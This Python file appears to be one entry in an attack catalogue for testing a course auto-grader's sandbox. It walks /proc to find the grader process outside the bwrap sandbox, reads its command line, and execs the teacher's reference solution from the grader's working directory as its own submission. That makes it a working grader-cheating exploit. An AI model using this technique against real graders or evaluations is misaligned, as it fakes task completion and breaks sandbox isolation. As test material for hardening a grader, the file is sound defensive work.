"""Hands in the teacher's reference solution, read from the grading machine's disk."""
import os

try:  # a name the attack catalogue's test finds this file's processes by, whatever the grader tracks
    with open("/proc/self/comm", "w") as _comm:
        _comm.write("mpgrade-attack")
except OSError:
    pass


def grader():
    """The grade process: the nearest ancestor that is not part of the sandbox (None when hidden)."""
    pid = os.getpid()
    for _ in range(12):
        try:
            with open(f"/proc/{pid}/status") as status:
                parent = int(next(line for line in status if line.startswith("PPid:")).split()[1])
            with open(f"/proc/{parent}/cmdline", "rb") as cmdline:
                command = cmdline.read()
        except (OSError, StopIteration, ValueError):
            return None
        if parent <= 1:
            return None
        if b"mpgrade_scenarios" not in command and b"bwrap" not in command:
            return parent
        pid = parent
    return None


def grader_option(pid, name):
    """The value of an option on the grade command line (--submission, --out)."""
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as cmdline:
            argv = cmdline.read().decode(errors="replace").split("\0")
    except (OSError, TypeError):
        return None
    return argv[argv.index(name) + 1] if name in argv[:-1] else None


def run_in_process(target, args=()):
    raise NotImplementedError


def candidates():
    found = ["/tmp/mpgrade-attacks/course/solutions/ex01_spawn.py"]
    victim = grader()
    if victim:
        found.insert(0, f"/proc/{victim}/cwd/solutions/ex01_spawn.py")
    return found


for _path in candidates():
    try:
        with open(_path) as _source:
            exec(compile(_source.read(), __file__, "exec"))
        break
    except OSError:
        pass
